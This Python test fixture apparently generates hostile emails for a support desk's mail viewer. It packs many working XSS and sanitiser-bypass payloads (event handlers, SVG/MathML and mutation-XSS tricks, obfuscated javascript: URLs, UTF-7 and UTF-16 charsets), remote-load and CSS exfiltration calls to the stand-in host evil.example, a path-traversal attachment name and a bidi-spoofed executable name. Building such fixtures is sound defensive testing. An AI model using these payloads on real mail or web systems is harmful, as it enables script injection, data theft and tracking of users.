"""Hostile mails, of our own writing: each tries to run script at the desk, or to make its browser ask elsewhere.

What succeeds calls `canary()`, or asks `evil.example`.
"""

from __future__ import annotations

import base64

EVIL = "https://evil.example"
RUN = "canary();document.title='owned'"
ENTITIES = "".join(f"&#{ord(one)};" for one in "javascript:canary()")
HEXED = "".join(f"&#x{ord(one):x}" for one in "javascript:canary()")
IN_DATA = base64.b64encode(b"<script>parent.canary&&parent.canary();canary()</script>").decode()
SVG = base64.b64encode(f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>".encode()).decode()

PAGES: dict[str, str] = {
    # Script, plainly and in other clothes.
    "script": f"<script>{RUN}</script>",
    "script-case": f"<ScRiPt >{RUN}</sCrIpT >",
    "script-nested": f"<scr<script>ipt>{RUN}</scr</script>ipt><script>{RUN}</script>",
    "script-remote": f"<script src='{EVIL}/a.js'></script>",
    "script-slash": f"<script/x/src='{EVIL}/b.js'></script>",
    "script-module": f"<script type=module>{RUN}</script>",
    "script-unclosed": f"<script>{RUN}",
    "script-in-comment": f"<!--><script>{RUN}</script>-->",
    "script-after-bang": f"<!--a--!><script>{RUN}</script>",
    "script-after-title": f"<title></title></title><script>{RUN}</script>",
    "script-in-cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    "script-null": f"<scr\0ipt>{RUN}</scr\0ipt><script\0>{RUN}</script>",
    "script-conditional": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]--><script>{RUN}</script>",
    # Handlers.
    "img-onerror": f'<img src=x: onerror="{RUN}">',
    "img-onerror-slashes": f"<img/src/onerror={RUN}//>",
    "img-onerror-backtick": f"<img src=`x` onerror={RUN}>",
    "img-onerror-newline": f"<img src=x:\nonerror\n=\n'{RUN}'>",
    "body-onload": f'<body onload="{RUN}">hello',
    "body-onpageshow": f'<body onpageshow="{RUN}">hello',
    "input-autofocus": f'<input autofocus onfocus="{RUN}">',
    "details-ontoggle": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "video-onerror": f'<video><source onerror="{RUN}" src=x:></video>',
    "audio-onerror": f'<audio src=x: onerror="{RUN}"></audio>',
    "marquee-onstart": f'<marquee onstart="{RUN}">x</marquee>',
    "animation-handler": f"<style>@keyframes k{{}}</style><p style='animation:k 1s' onanimationstart=\"{RUN}\">x</p>",
    "anchor-onfocus": f'<a href=# id=x tabindex=1 autofocus onfocus="{RUN}">x</a>',
    "popover": f'<button popovertarget=x>x</button><p popover id=x onbeforetoggle="{RUN}">x</p>',
    "contentvisibility": f'<p style=content-visibility:auto oncontentvisibilityautostatechange="{RUN}">x</p>',
    # SVG and MathML.
    "svg-onload": f'<svg onload="{RUN}">',
    "svg-script": f"<svg><script>{RUN}</script></svg>",
    "svg-script-href": f"<svg><script href='{EVIL}/c.js'/></svg>",
    "svg-animate": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "svg-set-href": "<svg><a id=x><text y=20>x</text></a><set href=#x attributeName=href to=javascript:canary()></svg>",
    "svg-use": f"<svg><use href='data:image/svg+xml;base64,{SVG}#x'/></svg>",
    "svg-image": f"<svg><image href='{EVIL}/d.png' width=10 height=10 /></svg>",
    "svg-foreign": f"<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='{RUN}'><img src=x: onerror='{RUN}'></body></foreignObject></svg>",
    "svg-style": f"<svg><style>@import '{EVIL}/e.css';</style></svg>",
    "svg-feimage": f"<svg><filter id=f><feImage href='{EVIL}/f.png'/></filter><rect filter=url(#f) width=9 height=9 /></svg>",
    "math-href": "<math href='javascript:canary()'><mtext>x</mtext></math>",
    "math-annotation": f"<math><annotation-xml encoding='text/html'><img src=x: onerror='{RUN}'></annotation-xml></math>",
    # Markup that a second parser reads differently.
    "mxss-math-style": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x: onerror={RUN}&gt;'>",
    "mxss-svg-style": f"<svg></p><style><a id=\"</style><img src=x: onerror='{RUN}'>\">",
    "mxss-form": f"<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror='{RUN}'>",
    "mxss-noscript": f"<noscript><p title=\"</noscript><img src=x: onerror='{RUN}'>\">",
    "mxss-template": f"<template><p title=\"</template><img src=x: onerror='{RUN}'>\">",
    "mxss-textarea": f"<svg><textarea><img title=\"</textarea><img src=x: onerror='{RUN}'>\"></svg>",
    "mxss-xmp": f"<xmp><p title=\"</xmp><img src=x: onerror='{RUN}'>\">",
    "mxss-iframe": f"<iframe><p title=\"</iframe><img src=x: onerror='{RUN}'>\"></iframe>",
    "mxss-noembed": f"<noembed><p title=\"</noembed><img src=x: onerror='{RUN}'>\">",
    "mxss-select": f"<select><option><style></option></select><img src=x: onerror='{RUN}'></style>",
    "mxss-entities": f"<b title='&lt;img src=x: onerror={RUN}&gt;'>&lt;img src=x: onerror={RUN}&gt;</b><img src=x: onerror={RUN}>",
    "mxss-plaintext": f"<table><plaintext><script>{RUN}</script>",
    "mxss-depth": "<div>" * 520 + f"<svg><style><img src=x: onerror='{RUN}'></style></svg>",
    "shadow-root": f"<div><template shadowrootmode=open><img src=x: onerror='{RUN}'></template></div>",
    # The document itself.
    "meta-refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/g'>",
    "meta-refresh-data": f"<meta http-equiv=refresh content='0;url=data:text/html;base64,{IN_DATA}'>",
    "meta-csp": f"<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>{RUN}</script>",
    "meta-charset": f"<meta charset=utf-7>+ADw-script+AD4-{RUN}+ADw-/script+AD4-<img src='{EVIL}/utf7.png'>",
    "base": f"<base href='{EVIL}/'><img src=h.png>",
    "frameset": f"<frameset onload=\"{RUN}\"><frame src='{EVIL}/i'></frameset>",
    "form-action": f"<form action='{EVIL}/j'><input name=x><button autofocus>Go</button></form><img src='{EVIL}/j.png'>",
    "form-formaction": f"<form><button formaction='javascript:canary()'>x</button></form><img src=x: onerror='{RUN}'>",
    "form-own": f"<form method=post action=/pause><button>Show the picture</button></form><img src='{EVIL}/own.png'>",
    "clobber": f"<form id=body name=cookie><input name=attributes></form><img name=getElementById src='{EVIL}/k.png'>",
    # Requests by style.
    "css-import": f"<style>@import '{EVIL}/l.css';</style>",
    "css-import-escaped": f"<style>@\\69mport url({EVIL}/m.css);</style>",
    "css-background": f"<p style=\"background:url('{EVIL}/n.png')\">x</p>",
    "css-background-escaped": f'<p style="background:u\\72l({EVIL}/o.png)">x</p>',
    "css-exfiltration": f"<style>p[title^=s]{{background:url({EVIL}/p?s)}}</style><p title=secret>x</p>",
    "css-font": f"<style>@font-face{{font-family:f;src:url({EVIL}/q.woff)}}p{{font-family:f}}</style><p>x</p>",
    "css-cursor": f'<p style="list-style:url({EVIL}/r.png);display:list-item;cursor:url({EVIL}/r.cur),auto">x</p>',
    "css-image-set": f"<p style=\"background:image-set('{EVIL}/s.png' 1x)\">x</p>",
    "css-overlay": f"<p style='position:fixed;inset:0;z-index:9;background:url({EVIL}/overlay.png)'>Log in again</p>",
    "css-break-out": f"<style></style><img src=x: onerror='{RUN}'><style></style>",
    "background-attribute": f"<table background='{EVIL}/t.png'><tr><td background='{EVIL}/u.png'>x</table>",
    # Requests by elements.
    "img-remote": f"<img src='{EVIL}/v.png' width=1 height=1>",
    "img-relative-scheme": "<img src='//evil.example/w.png'>",
    "img-backslashes": "<img src='\\\\evil.example\\x.png'>",
    "img-srcset": f"<img srcset='{EVIL}/y.png 1x, {EVIL}/z.png 2x'>",
    "picture-source": f"<picture><source srcset='{EVIL}/1.png'><img src=''></picture>",
    "img-own-decision": f"<img src='/drafts/d1/approve'><img src='/pause'><img src='{EVIL}/2.png'>",
    "link-stylesheet": f"<link rel=stylesheet href='{EVIL}/3.css'>",
    "link-preload": f"<link rel=preload as=image href='{EVIL}/4.png'><link rel=prefetch href='{EVIL}/4'>",
    "link-icon": f"<link rel=icon href='{EVIL}/5.ico'><img src='{EVIL}/5.png'>",
    "link-preconnect": f"<link rel=preconnect href='{EVIL}'><link rel=dns-prefetch href='{EVIL}'><img src='{EVIL}/6.png'>",
    "video-poster": f"<video poster='{EVIL}/7.png' src='{EVIL}/7.mp4' autoplay></video>",
    "track": f"<video autoplay><source src='{EVIL}/8.mp4'><track default src='{EVIL}/8.vtt'></video>",
    "input-image": f"<input type=image src='{EVIL}/9.png'>",
    "object": f"<object data='{EVIL}/10.html' type=text/html></object>",
    "object-data": f"<object data='data:text/html;base64,{IN_DATA}'></object><img src=x: onerror='{RUN}'>",
    "embed": f"<embed src='{EVIL}/11.html' type=text/html>",
    "iframe-remote": f"<iframe src='{EVIL}/12.html'></iframe>",
    "iframe-srcdoc": f"<iframe srcdoc=\"<script>parent.canary()</script><img src='{EVIL}/13.png'>\"></iframe>",
    "iframe-javascript": "<iframe src='javascript:parent.canary()'></iframe>",
    "iframe-entities": f"<iframe src='{ENTITIES.replace('canary', 'canary')}'></iframe><iframe src='java&Tab;script:parent.canary()'></iframe>",
    "iframe-top": f"<iframe src='data:text/html,<script>top.location=\"{EVIL}/14\"</script>'></iframe><img src='{EVIL}/14.png'>",
    "dangling-img": f"<img src='{EVIL}/15?",
    "dangling-base": f"<base target='<p>secret</p><img src={EVIL}/16.png>",
    "dangling-textarea": f"<form action={EVIL}/17><button>x</button><textarea name=a><img src={EVIL}/17.png>",
    # Addresses that are script. (They need a click: the browser test clicks whatever can be clicked.)
    "href-javascript": "<a href='javascript:canary()'>Click here</a>",
    "href-entities": f"<a href='{ENTITIES}'>Click here</a>",
    "href-hex": f"<a href={HEXED}>Click here</a>",
    "href-tab": "<a href='java\tscript:canary()'>Click here</a>",
    "href-control": "<a href='\x01javascript:canary()'>Click here</a>",
    "href-newline": "<a href='javascript&NewLine;:canary()'>Click here</a>",
    "href-case": "<a href='JaVaScRiPt:canary()'>Click here</a>",
    "href-vbscript": f"<a href='vbscript:canary()'>Click here</a><img src='{EVIL}/vb.png'>",
    "href-data": f"<a href='data:text/html;base64,{IN_DATA}'>Click here</a><img src='{EVIL}/data.png'>",
    "href-remote": f"<a href='{EVIL}/18' target=_blank ping='{EVIL}/ping'>Click here</a>",
    "href-own": f"<a href='/pause'>Click here</a><img src='{EVIL}/19.png'>",
    "area": f"<map name=m><area shape=default href='javascript:canary()'></map><img usemap=#m width=50 height=50 src='{EVIL}/20.png'>",
    # The desk's own marks.
    "desk-keys": f"<button data-key=a data-focus onclick=\"{RUN}\">Approve</button><img src='{EVIL}/21.png'>",
    "template-syntax": f"{{{{ 7*7 }}}} {{% raw %}} ${{7*7}} <%= 7*7 %><img src=x: onerror='{RUN}'>",
    "custom-element": f"<x-y onclick=\"{RUN}\" is=script style='display:block' onmouseover=\"{RUN}\">x</x-y><img src=x: onerror='{RUN}'>",
    # Size.
    "five-megabytes": "<p>word <b>word</b></p>" * 220_000 + f"<script>{RUN}</script>",
    "ten-thousand-deep": "<div>" * 10_000 + f"<img src=x: onerror='{RUN}'>",
    "ten-thousand-attributes": "<p "
    + " ".join(f"a{n}=1" for n in range(10_000))
    + f" onclick='{RUN}'>x</p><img src=x: onerror='{RUN}'>",
}

MARKUP = f"</title></textarea></pre><script>{RUN}</script><img src=x: onerror={RUN}>"
"""For every place that is not HTML: headers, text, names."""


def _mail(kind: str, body: bytes, **headers: str) -> bytes:
    given = {
        "From": "Ann Example <ann@customer.example>",
        "To": "support@larkspur.example",
        "Subject": "Hostile",
        "MIME-Version": "1.0",
        "Content-Type": kind,
        **{name.replace("_", "-"): value for name, value in headers.items()},
    }
    return "".join(f"{name}: {value}\r\n" for name, value in given.items()).encode() + b"\r\n" + body + b"\r\n"


def _attached(kind: str, name: str, data: bytes) -> bytes:
    body = (
        f"--b\r\nContent-Type: text/plain\r\n\r\nSee the file.\r\n--b\r\nContent-Type: {kind}\r\n"
        f'Content-Disposition: attachment; filename="{name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
    )
    return _mail("multipart/mixed; boundary=b", body.encode() + base64.encodebytes(data) + b"\r\n--b--")


def _related(cid: str, kind: str, data: bytes) -> bytes:
    body = (
        f"--b\r\nContent-Type: text/html\r\n\r\n<img src='cid:{cid}'><object data='cid:{cid}'></object>\r\n"
        f"--b\r\nContent-Type: {kind}\r\nContent-ID: <{cid}>\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    )
    return _mail("multipart/related; boundary=b", body.encode() + base64.encodebytes(data) + b"\r\n--b--")


_SCRIPT = f"<script>{RUN}</script><img src='{EVIL}/raw.png'>"
_BASE64_WORD = f"=?utf-8?b?{base64.b64encode(MARKUP.encode()).decode()}?="
_UTF7 = f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-<img src='{EVIL}/utf7.png'>"

RAW: dict[str, bytes] = {
    "text-markup": _mail("text/plain; charset=utf-8", MARKUP.encode()),
    "subject-markup": _mail("text/plain", b"Hello", Subject=MARKUP),
    "subject-encoded": _mail("text/plain", b"Hello", Subject=_BASE64_WORD),
    "from-markup": _mail("text/plain", b"Hello", From=f'"{MARKUP.replace(chr(34), "")}" <ann@customer.example>'),
    "from-encoded": _mail("text/plain", b"Hello", From=f"{_BASE64_WORD} <ann@customer.example>"),
    "from-address": _mail("text/plain", b"Hello", From='"<script>canary()</script>"@customer.example'),
    "reply-to-markup": _mail(
        "text/plain", b"Hello", Reply_To=f'"{RUN}<script>" <x@evil.example>', Cc="<script>@x.example"
    ),
    "message-id-markup": _mail("text/plain", b"Hello", Message_ID=f"<'\"><script>{RUN}</script>@x.example>"),
    "charset-utf7": _mail("text/html; charset=utf-7", _UTF7.encode()),
    "charset-utf16": _mail("text/html; charset=utf-16", _SCRIPT.encode("utf-16")),
    "charset-utf16-unsaid": _mail(
        "text/html", base64.encodebytes(_SCRIPT.encode("utf-16")), Content_Transfer_Encoding="base64"
    ),
    "charset-utf32": _mail(
        "text/html; charset=utf-32", base64.encodebytes(_SCRIPT.encode("utf-32")), Content_Transfer_Encoding="base64"
    ),
    "charset-iso2022": _mail(
        "text/html; charset=iso-2022-jp", b'<img alt="\x1b$B"><img src=x: onerror=canary()>\x1b(B'
    ),
    "charset-overlong": _mail("text/html; charset=utf-8", b"\xc0\xbcscript\xc0\xbe" + _SCRIPT.encode()),
    "charset-markup": _mail(f'text/html; charset="\'><script>{RUN}</script>"', _SCRIPT.encode()),
    "attached-html": _attached("text/html", "invoice.html", _SCRIPT.encode()),
    "attached-svg": _attached("image/svg+xml", "logo.svg", base64.b64decode(SVG)),
    "attached-sniffed": _attached("image/png", "photo.png", _SCRIPT.encode()),
    "attached-pdf-html": _attached("application/pdf", "a.pdf", b"%PDF-1.4\n" + _SCRIPT.encode()),
    "attached-zip": _attached("application/zip", "../../../../etc/cron.d/x.zip", b"PK\x03\x04" + b"../" * 10),
    "name-markup": _attached("text/plain", f"<img src=x: onerror={RUN}>.txt", b"x"),
    "name-bidi": _attached("application/octet-stream", "invoice\u202efdp.exe", b"MZ"),
    "name-encoded": _attached("text/plain", _BASE64_WORD, b"x"),
    "attached-mail": _attached("message/rfc822", "mail.eml", _mail("text/html", _SCRIPT.encode())),
    "cid-svg": _related("a@b", "image/svg+xml", base64.b64decode(SVG)),
    "cid-html": _related("a@b", "image/png", _SCRIPT.encode()),
    "cid-break-out": _related("a'onerror='canary()", "image/png", b"\x89PNG\r\n\x1a\n" + b"\0" * 40 + _SCRIPT.encode()),
    "xhtml": _mail("application/xhtml+xml", _SCRIPT.encode()),
    "calendar": _mail(
        "text/calendar", f"BEGIN:VCALENDAR\r\nSUMMARY:{MARKUP}\r\nURL:javascript:canary()\r\nEND:VCALENDAR".encode()
    ),
}


def mails() -> dict[str, bytes]:
    """Every hostile mail by its name, each with a Message-ID of its own where it says none."""
    made = {name: _mail("text/html; charset=utf-8", page.encode()) for name, page in PAGES.items()} | RAW
    return {
        name: data if b"Message-ID:" in data else f"Message-ID: <{name}@hostile.example>\r\n".encode() + data
        for name, data in made.items()
    }
